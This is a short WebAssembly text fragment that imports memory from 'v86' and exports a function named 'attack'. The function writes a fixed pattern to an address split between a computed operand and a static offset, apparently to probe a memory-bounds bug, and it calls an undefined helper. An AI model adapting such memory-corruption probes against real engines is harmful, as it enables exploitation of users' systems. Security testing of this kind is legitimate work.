;; The ledger again, the address split between operand and static offset.
(import "v86" "memory" (memory 1))

(func $attack (export "attack")
  (i32.store offset=0x10000 (i32.sub (call $edm-byte) (i32.const 0x10000)) (i32.const 0x06060606)))
